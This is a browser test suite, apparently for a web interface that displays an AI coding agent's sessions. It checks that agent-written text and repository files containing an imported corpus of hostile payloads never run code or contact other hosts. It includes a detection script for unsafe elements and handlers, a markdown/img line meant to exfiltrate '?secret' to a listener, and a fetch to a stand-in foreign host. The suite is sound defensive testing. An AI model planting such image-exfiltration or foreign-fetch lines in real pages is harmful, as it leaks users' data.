"""Whatever an agent writes is shown, never run, and fetches nothing.

That nothing is asked of another host, each Desk proves when it closes (pages.py), here as in every other test.
"""

import asyncio
from typing import Any

import pytest
from playwright.async_api import Page, expect

from tests.browser.pages import Desk, Tab
from tests.browser.payloads import HANDLERS, HOST, PAYLOADS
from tests.unit.workspace.repo import Repo

pytestmark = [pytest.mark.browser, pytest.mark.asyncio(loop_scope="session")]

TALL = {"width": 1280, "height": 6000}
"""So that many rows are in sight, and so in the document, at a time."""

WATCH = """() => {
  window.tried = [];
  addEventListener("securitypolicyviolation", (e) => window.tried.push(`${e.violatedDirective} ${e.blockedURI}`));
}"""

UNSAFE = """() => {
  const foreign = "script, iframe, frame, frameset, object, embed, applet, form, style, base, meta, link, math, video, audio, source, " +
    "template, slot, portal, fencedframe, marquee, map, area, noscript, svg:not([aria-hidden=true]), svg :not(path), details:not(.group)";
  const said = ".prose, [data-testid=item], [data-testid=approval], [data-testid=failure], [data-testid=turn], " +
    "[data-testid=file-tree], [data-testid=file], [data-testid=changed-file], [data-testid=file-names], " +
    "[data-testid=sessions-found], [data-testid=waiting-panel], [data-testid=queue]";
  const lines = [];
  for (const node of document.body.querySelectorAll("*")) {
    const inWords = node.closest(".prose");
    const shown = node.outerHTML.slice(0, 160);
    if (node.matches(foreign) && node.closest(said)) lines.push(`element ${shown}`);
    if (inWords && !node.matches(".code *") && node.matches("button:not(.target), input, select, textarea, [style], [id], [name], [data-testid]:not(.code)"))
      lines.push(`in words ${shown}`);
    for (const {name, value} of node.attributes) {
      if (/^on/i.test(name)) lines.push(`handler ${shown}`);
      if (/^(href|src|action|formaction|xlink:href|data|poster|background|srcset|ping|srcdoc)$/i.test(name)) {
        const url = new URL(value, document.baseURI);
        const mine = url.origin === location.origin;
        const web = name === "href" && /^(https?|mailto):$/.test(url.protocol) && node.rel === "noopener noreferrer";
        const image = name === "src" && node.tagName === "IMG" && /^data:image\\//.test(value);
        if (!mine && !web && !image) lines.push(`address ${shown}`);
        if (mine && inWords) lines.push(`ours ${shown}`);
      }
    }
  }
  for (const script of document.scripts) if (new URL(script.src).origin !== location.origin || script.text) lines.push("script");
  if (document.head.querySelectorAll("base").length !== 1 || document.head.querySelectorAll("style").length) lines.push("head");
  if (getComputedStyle(document.body).display !== "block" || document.body.id) lines.push("body");
  return lines;
}"""

UNFOLD = """() => {
  const folded = document.querySelectorAll("main [data-testid=transcript] button[aria-expanded=false]");
  for (const button of folded) button.click();
  for (const details of document.querySelectorAll("main [data-testid=transcript] details")) details.open = true;
  return folded.length;
}"""

OPEN_FOLDERS = """files => {
  for (const folder of document.querySelectorAll("[data-testid=tree-entry][aria-expanded=false]")) folder.click();
  return document.querySelectorAll("[data-testid=tree-entry][data-kind=file]").length === files;
}"""
"""Whether so many files stand in the tree; opens what is closed."""

OPEN_CHANGES = """() => {
  for (const name of document.querySelectorAll("[data-testid=changed-file-name][aria-expanded=false]")) name.click();
}"""

STEP = """() => {
  const view = document.querySelector("[data-testid=transcript]");
  const before = view.scrollTop;
  view.scrollTop = before - view.clientHeight * 0.8;
  return view.scrollTop < before;
}"""

FRAMES = (
    "() => new Promise(done => requestAnimationFrame(() => requestAnimationFrame(() => setTimeout(done))))"
)

ECHO = "\n".join(["echo", *PAYLOADS])
CORPUS = "corpus.html"
SAMPLE = 12
"""Names that the `@` menu shows at a time."""


def is_path(payload: str) -> bool:
    """Whether a file system takes it as it stands, its slashes as folders."""
    parts = payload.split("/")
    return "\0" not in payload and all(
        part not in ("", ".", "..") and len(part.encode()) < 256 for part in parts
    )


PATHS = [payload for payload in PAYLOADS if is_path(payload)]


class Watched:
    """A page of which it is known whether anything in it ran or asked."""

    def __init__(self, desk: Desk, tab: Tab) -> None:
        self.desk, self.tab = desk, tab
        self.dialogs: list[str] = []
        self.pages: list[Page] = []
        desk.context.on("page", lambda page: self.pages.append(page))
        tab.page.on("dialog", self._on_dialog)

    async def _on_dialog(self, dialog: Any) -> None:
        self.dialogs.append(dialog.message)
        await dialog.dismiss()

    async def is_harmless(self, policy: bool, *, whole: bool = False) -> None:
        """In what is in sight, unfolded; `whole`: in all of the conversation, from its end to its beginning."""
        page = self.tab.page
        seen = True
        while seen:
            while await page.evaluate(UNFOLD):
                await page.evaluate(FRAMES)
            assert await page.evaluate(UNSAFE) == []
            seen = whole and await page.evaluate(STEP)
            await page.evaluate(FRAMES)
        assert await page.evaluate("window.ran") is None
        if policy:
            assert await page.evaluate("window.tried") == [], "the policy had to stop something"
        assert (self.dialogs, self.pages) == ([], [])
        assert self.tab.errors == []
        assert page.url.startswith(self.desk.server.url)


async def watched(desk: Desk) -> Watched:
    """A new session with the hostile agent, in a tall window."""
    session = await asyncio.to_thread(desk.make_session, "claude")
    tab = await desk.tab(f"sessions/{session}")
    await tab.page.set_viewport_size(TALL)  # type: ignore[arg-type]
    await tab.is_live()
    return Watched(desk, tab)


async def test_the_policy_allows_no_foreign_script(desk: Desk) -> None:
    """Scripts are files of the page's own: nothing inline, nothing evaluated, on every address of the page."""
    for path in ("/", "/sessions/x", "/projects/x", "/nowhere"):
        policy = desk.api.get(path).headers["content-security-policy"]
        rules = {rule.split()[0]: rule.split()[1:] for rule in policy.split(";")}
        assert rules["script-src"] == ["'self'"]
        assert rules["default-src"] == ["'none'"]
        assert rules["form-action"] == rules["frame-ancestors"] == ["'none'"]
        assert "object-src" not in rules and "frame-src" not in rules, "both are default-src"


@pytest.mark.timeout(240)
@pytest.mark.parametrize("policy", [True, False], ids=["with-its-policy", "without-its-policy"])
async def test_nothing_that_an_agent_writes_runs(make_desk, policy: bool) -> None:
    """The corpus in messages (streamed, whole, reloaded), thoughts, plans, notes, tools, diffs, questions, titles, failures; in the queue, in the list of what waits, and found again."""
    assert len(PAYLOADS) >= 100
    desk: Desk = await make_desk(module="tests.browser.hostile")
    await desk.sign_in(bypass_csp=not policy)
    await desk.context.add_init_script(f"({WATCH})()")
    watch = await watched(desk)
    tab = watch.tab
    await tab.done("words", limit_s=60)
    await watch.is_harmless(policy)
    await tab.done("tools", limit_s=60)
    await watch.is_harmless(policy)
    await tab.prompt("asks")
    await expect(tab.approval).to_be_visible(
        timeout=60_000
    )  # with a hundred fields, on a machine that may be busy
    await tab.by("if-busy").select_option("queue")
    await tab.prompt(ECHO)
    await expect(tab.queued).to_contain_text(PAYLOADS[0])
    await watch.is_harmless(policy)
    await tab.by("queue-edit").click()
    await watch.is_harmless(policy)
    await tab.by("queue-text").press("Escape")
    await tab.by("dequeue").click()
    await tab.bell.click()
    await expect(tab.by("waiting-panel").get_by_test_id("approval")).to_contain_text(PAYLOADS[0])
    await watch.is_harmless(policy)
    await tab.page.keyboard.press("Escape")
    await expect(tab.by("waiting-panel")).to_have_count(0)
    await tab.option("allow-once").click()
    await tab.turn_is("completed")
    await expect(tab.by("session-title")).to_have_text(PAYLOADS[8])
    await tab.by("tasks").get_by_role("button").first.click()
    await tab.composer.fill("/")
    await expect(tab.by("command").first).to_be_visible()
    await watch.is_harmless(policy)
    await tab.composer.fill("")
    await tab.prompt("fails")
    await tab.turn_is("failed")
    await tab.prompt(ECHO)  # the person's own words, and an agent that repeats them
    await tab.turn_is("completed")
    await watch.is_harmless(policy)
    await tab.reload()
    await tab.turn_is("completed")
    await watch.is_harmless(policy, whole=True)
    await tab.by("session-search").fill("window")
    hits = tab.by("search-hit")
    await expect(hits.first).to_be_visible()
    while await tab.by("hits-more").count():
        before = await hits.count()
        await tab.by("hits-more").click()
        await expect(hits.nth(before)).to_be_visible()
    assert await hits.count() > 80
    await expect(tab.by("sessions-found").get_by_test_id("session-row")).to_contain_text(PAYLOADS[8])
    await watch.is_harmless(policy)


@pytest.mark.timeout(240)
@pytest.mark.parametrize("policy", [True, False], ids=["with-its-policy", "without-its-policy"])
async def test_nothing_that_a_folder_holds_runs(make_desk, policy: bool) -> None:
    """Files named by payloads and filled with them: in the tree, a file, the changes; some in the `@` menu, too."""
    assert len(PATHS) >= 50
    desk: Desk = await make_desk(module="tests.browser.hostile")
    await desk.sign_in(bypass_csp=not policy)
    await desk.context.add_init_script(f"({WATCH})()")
    repo = Repo(desk.server.root / "site")
    repo.write(CORPUS, "before\n")
    repo.commit()
    repo.write(CORPUS, "\n".join(PAYLOADS).replace("\0", ""))  # with a NUL it would be no text
    for path in PATHS:
        repo.write(path, path)
    watch = await watched(desk)
    tab, page = watch.tab, watch.tab.page
    await tab.by("tab-files").click()
    files = tab.by("tree-entry", kind="file")
    await page.wait_for_function(OPEN_FOLDERS, arg=len(PATHS) + 1, polling=100, timeout=60_000)
    await tab.by("tree-entry", path=CORPUS).click()
    await expect(tab.by("file-text")).to_contain_text(PAYLOADS[0])
    await watch.is_harmless(policy)
    await tab.by("file-text").evaluate("view => view.scrollTo(0, view.scrollHeight)")
    await expect(tab.by("file-text")).to_contain_text(PAYLOADS[-1])
    await watch.is_harmless(policy)
    await files.filter(has_text=HANDLERS[0]).first.click()
    await expect(tab.by("file").get_by_role("heading")).to_have_text(HANDLERS[0])
    await watch.is_harmless(policy)
    await tab.by("tab-changes").click()
    await expect(tab.by("changed-file")).to_have_count(len(PATHS) + 1)
    await page.evaluate(OPEN_CHANGES)
    await expect(tab.by("patch")).to_have_count(len(PATHS) + 1, timeout=60_000)
    await watch.is_harmless(policy)
    await tab.by("tab-conversation").click()
    await tab.composer.press_sequentially("@window.ran")
    await expect(tab.by("file-name")).to_have_count(SAMPLE)
    await watch.is_harmless(policy)


async def test_an_image_is_not_fetched(desk: Desk) -> None:
    """A picture's address can carry secrets away: nothing is fetched from elsewhere."""
    tab = await desk.session_tab()
    reached = asyncio.Event()

    def reach(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        reached.set()
        writer.close()

    stranger = await asyncio.start_server(reach, "127.0.0.1", 0)
    port = stranger.sockets[0].getsockname()[1]
    await tab.done(
        f"say ![x](http://127.0.0.1:{port}/?secret) <img src=http://127.0.0.1:{port}/2> ![y]({HOST}/3)"
    )
    await expect(tab.message.get_by_role("link", name="x")).to_be_visible()
    stranger.close()
    assert not reached.is_set()


async def test_who_asks_another_host_is_told(desk: Desk) -> None:
    """The guard of every browser test: a desk does not close without naming who else was asked."""
    context = await desk.new_context(bypass_csp=True)
    tab = await desk.tab(context=context)
    ear = f"ws://localhost:{desk.server.port}/ear"  # the same machine by another name: it is reached
    async with tab.page.expect_websocket():
        await tab.page.evaluate(f"fetch('{HOST}/x').catch(() => new WebSocket('{ear}') && 0)")
    with pytest.raises(AssertionError, match=f"{HOST}/x, {ear}"):
        await desk.close()
    desk.asked_elsewhere.clear()
